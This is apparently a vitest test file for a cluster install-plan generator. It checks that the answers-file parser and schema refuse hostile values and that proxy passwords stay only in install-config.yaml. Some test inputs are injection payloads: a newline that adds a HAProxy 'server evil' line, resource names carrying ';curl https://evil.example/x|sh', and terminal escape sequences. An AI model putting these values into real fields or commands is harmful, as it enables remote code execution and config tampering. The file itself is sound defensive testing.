/** Hostile values in answers files: each is refused where it enters, or reaches the files inert. */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { renderNormalisedAnswers } from '../../src/answers/normalise.js';
import { parseAnswersText } from '../../src/answers/parse.js';
import { AnswersSchema } from '../../src/answers/schema.js';
import { readInputs } from '../../src/io/read-inputs.js';
import { renderPlan } from '../../src/pipeline.js';
import { checkPlan } from '../../src/plan/check.js';
import { isIp } from '../../src/plan/network.js';
import { firstNonText } from '../../src/util/control-characters.js';
import { answers, planOf } from '../helpers/answers.js';
import { markedFiles, scenarioPlan } from '../io/plan-fixture.js';

const files = markedFiles();
afterAll(() => rmSync(files, { recursive: true, force: true }));

const base = { clusterName: 'prod', baseDomain: 'example.com' };
/** The schema's problems for raw answers, as "key: message". */
function refused(raw: Record<string, unknown>): string[] {
  const result = AnswersSchema.safeParse(raw);
  return result.success ? [] : result.error.issues.map((i) => `${i.path.join('.')}: ${i.message}`);
}

describe('proxy credentials are secrets: install-config.yaml only', () => {
  it('refuses user:password@ in the proxy URLs, naming the credentials file instead', () => {
    const problems = refused({
      ...base,
      platform: 'none',
      connectivity: 'proxy',
      proxy: { httpProxy: 'http://proxyuser:PROXYPW_SECRET@10.90.0.2:3128' },
    });
    expect(problems).toEqual([
      'proxy.httpProxy: must not carry user:password@; put the username and password in a YAML file (username:, password:) and name it in proxy.credentialsFile',
    ]);
    expect(problems.join('')).not.toContain('PROXYPW_SECRET');
  });

  it('puts the credentials file’s user and password into install-config.yaml’s proxy URLs, and nowhere else', () => {
    writeFileSync(path.join(files, 'proxy.yaml'), 'username: proxy user\npassword: "PROXYPW_SECRET:@/"\n', {
      mode: 0o600,
    });
    const plan = scenarioPlan('none-upi-compact-proxy', files, (raw) => {
      (raw.proxy as Record<string, unknown>).credentialsFile = path.join(files, 'proxy.yaml');
    });
    const { inputs, problems } = readInputs(plan);
    expect(problems).toEqual([]);
    const output = renderPlan(plan, inputs, 'en', path.join(files, 'plan'));
    const config = parse(output.installConfig);
    expect(config.proxy.httpProxy).toMatch(/^http:\/\/proxy%20user:PROXYPW_SECRET%3A%40%2F@/);
    expect(new URL(config.proxy.httpProxy).password).toBe('PROXYPW_SECRET%3A%40%2F');
    for (const artifact of output.artifacts) {
      if (artifact.path === 'install-config.yaml') continue;
      expect(artifact.content, artifact.path).not.toContain('PROXYPW_SECRET');
    }
    const normalised = parse(output.artifacts.find((a) => a.path === 'answers.yaml')?.content ?? '');
    expect(normalised.proxy.credentialsFile).toBe('../proxy.yaml');
  });
});

describe('values that reach config files are validated for their type', () => {
  it('refuses a bootstrapExternalStaticIP that is not an address (the HAProxy injection)', () => {
    expect(
      refused({
        ...base,
        platform: 'baremetal',
        baremetal: { bootstrapExternalStaticIP: '10.10.0.9\n  server evil 6.6.6.6' },
      }),
    ).toEqual([
      'baremetal.bootstrapExternalStaticIP: must be an IPv4 or IPv6 address such as 10.0.0.5 or fd00::5 (without a %zone)',
    ]);
    expect(
      refused({
        ...base,
        platform: 'baremetal',
        baremetal: { bootstrapExternalStaticIP: 'bootstrap.example.com' },
      }),
    ).toHaveLength(1);
    expect(
      refused({ ...base, platform: 'baremetal', baremetal: { bootstrapExternalStaticIP: '10.10.0.9' } }),
    ).toEqual([]);
  });

  it('refuses floating IPs, provisioning addresses and MACs of the wrong shape', () => {
    expect(
      refused({
        ...base,
        platform: 'openstack',
        openstack: { apiFloatingIP: 'not-an-ip', ingressFloatingIP: '203.0.113.9' },
      }),
    ).toEqual([
      'openstack.apiFloatingIP: must be an IPv4 or IPv6 address such as 10.0.0.5 or fd00::5 (without a %zone)',
    ]);
    expect(
      refused({
        ...base,
        platform: 'baremetal',
        baremetal: {
          provisioningNetworkCIDR: '172.22.0.0/33',
          externalMACAddress: 'zz',
          provisioningDHCPRange: '1.2.3.4',
        },
      }),
    ).toHaveLength(3);
  });

  it('refuses zone IDs in every address and over-long host names', () => {
    expect(isIp('fd00:10::9%eth0')).toBe(false);
    expect(isIp('fd00:10::9')).toBe(true);
    expect(
      refused({
        ...base,
        platform: 'none',
        hosts: [{ name: 'm0', role: 'control-plane', ip: 'fd00:10::9%eth0' }],
      }),
    ).toHaveLength(1);
    expect(refused({ ...base, platform: 'none', vips: { api: ['fd00::5%1'] } })).toHaveLength(1);
    expect(
      refused({ ...base, platform: 'none', hosts: [{ name: 'm'.repeat(64), role: 'control-plane' }] }),
    ).toEqual(['hosts.0.name: must be at most 63 characters (a DNS label)']);
    const long = {
      ...base,
      baseDomain: `${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(60)}.com`,
      platform: 'none' as const,
    };
    const raw = { ...long, hosts: [{ name: 'h'.repeat(63), role: 'control-plane' }] };
    expect(checkPlan(planOf(raw), answers(raw)).map((p) => p.key)).toContain('hosts[0].name');
  });

  it('bounds the hosts list: a flood of entries is refused before the schema runs', () => {
    const flood = `clusterName: x\nhosts: [${Array.from({ length: 6000 }, () => '{}').join(',')}]\n`;
    expect(() => parseAnswersText(flood, 'flood.yaml')).toThrow(/has a list of 6000 entries/);
    expect(
      refused({
        ...base,
        platform: 'none',
        hosts: Array.from({ length: 2001 }, (_, i) => ({ name: `h${i}`, role: 'worker' })),
      }),
    ).toEqual(['hosts: lists more than 2000 hosts, the tested maximum number of nodes of a cluster']);
  });
});

describe('names that reach copy-paste commands follow the provider’s syntax', () => {
  it('refuses a resource group, region, project or OpenStack name carrying shell or Markdown', () => {
    const payload = 'dns-rg;curl https://evil.example/x|sh';
    expect(
      refused({ ...base, platform: 'azure', azure: { baseDomainResourceGroupName: payload } }),
    ).toHaveLength(1);
    expect(
      refused({ ...base, platform: 'azure', azure: { baseDomainResourceGroupName: 'dns-rg_(prod).1' } }),
    ).toEqual([]);
    expect(refused({ ...base, platform: 'azure', azure: { region: 'East US' } })).toHaveLength(1);
    expect(refused({ ...base, platform: 'aws', aws: { region: 'us-east-1;id' } })).toHaveLength(1);
    expect(refused({ ...base, platform: 'gcp', gcp: { projectID: 'My Project' } })).toHaveLength(1);
    expect(refused({ ...base, platform: 'gcp', gcp: { projectID: 'my-project-123' } })).toEqual([]);
    expect(
      refused({ ...base, platform: 'openstack', openstack: { externalNetwork: 'ext net' } }),
    ).toHaveLength(1);
    expect(
      refused({ ...base, platform: 'nutanix', nutanix: { prismCentral: 'https://pc.example.com' } }),
    ).toHaveLength(1);
  });
});

describe('terminal escapes written as YAML escapes are refused after parsing', () => {
  it.each([
    ['"dns-rg\\e[8m;curl -s evil.example|sh\\e[0m"', '\\x1b'],
    ['"vc\\u001b]0;TITLE\\u0007"', '\\x1b'],
    ['"evil\\u202etxt"', '\\u202e'],
    ['"a\\u2028b"', '\\u2028'],
    ['"a\\x85b"', '\\x85'],
    ['"tab\\there"', '\\x09'],
  ])('refuses %s, naming the key and the character', (value, shown) => {
    expect(() => parseAnswersText(`clusterName: prod\nvsphere:\n  vcenter: ${value}\n`, 'a.yaml')).toThrow(
      `a.yaml has control or invisible characters in vsphere.vcenter (${shown}); answers are plain text: remove them.`,
    );
  });

  it('lets a description span lines', () => {
    expect(parseAnswersText('description: "two\\nlines"\n', 'a.yaml')).toEqual({ description: 'two\nlines' });
  });
});

describe('answers.yaml reproduces the answers exactly', () => {
  const ambiguous = [
    '0o17',
    '0x1F',
    '017',
    '1e3',
    '.inf',
    '-.Inf',
    '.NaN',
    'yes',
    'on',
    'No',
    '~',
    'null',
    '12:30',
    '2024-01-01',
    'true',
    '+12',
    '1_000',
  ];
  it.each(ambiguous)('keeps the string %j a string', (value) => {
    const raw = { ...base, platform: 'vsphere', vsphere: { network: value, datacenter: value } };
    const plan = planOf(raw);
    const text = renderNormalisedAnswers(plan, '/tmp/plan');
    const back = parseAnswersText(text, 'answers.yaml') as { vsphere: { network: unknown } };
    expect(back.vsphere.network).toBe(value);
  });

  it('round-trips any string value of a pass-through field', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 12 }).filter((s) => firstNonText(s) === undefined),
        (value) => {
          const plan = planOf({
            ...base,
            platform: 'vsphere',
            vsphere: { folder: value, network: value || 'n' },
          });
          const back = parseAnswersText(renderNormalisedAnswers(plan, '/tmp/plan'), 'answers.yaml') as {
            vsphere: Record<string, unknown>;
          };
          expect(back.vsphere.folder).toBe(value);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('records the language of the plan, so a re-run or --check in another locale renders the same', () => {
    const plan = planOf({ ...base, platform: 'none', lang: 'ko' });
    const text = renderNormalisedAnswers(plan, '/tmp/plan');
    expect(parseAnswersText(text, 'answers.yaml')).toMatchObject({ lang: 'ko' });
  });
});

describe('parser messages in plain words', () => {
  it('explains several documents, complex keys and lone CR line ends', () => {
    expect(() => parseAnswersText('clusterName: a\n---\nclusterName: b\n', 'a.yaml')).toThrow(
      'a.yaml holds several YAML documents (separated by ---); an answers file is one document.',
    );
    expect(() => parseAnswersText('? [a, b]\n: 1\n', 'a.yaml')).toThrow(
      'a.yaml has a key that is a list or mapping (line 1); keys are plain names such as clusterName.',
    );
    expect(() => parseAnswersText('clusterName: a\rplatform: none\r', 'a.yaml')).toThrow(
      /carriage return alone/,
    );
    expect(readFileSync(path.join(files, 'id_ed25519.pub'), 'utf8')).toMatch(/^ssh-/);
  });
});
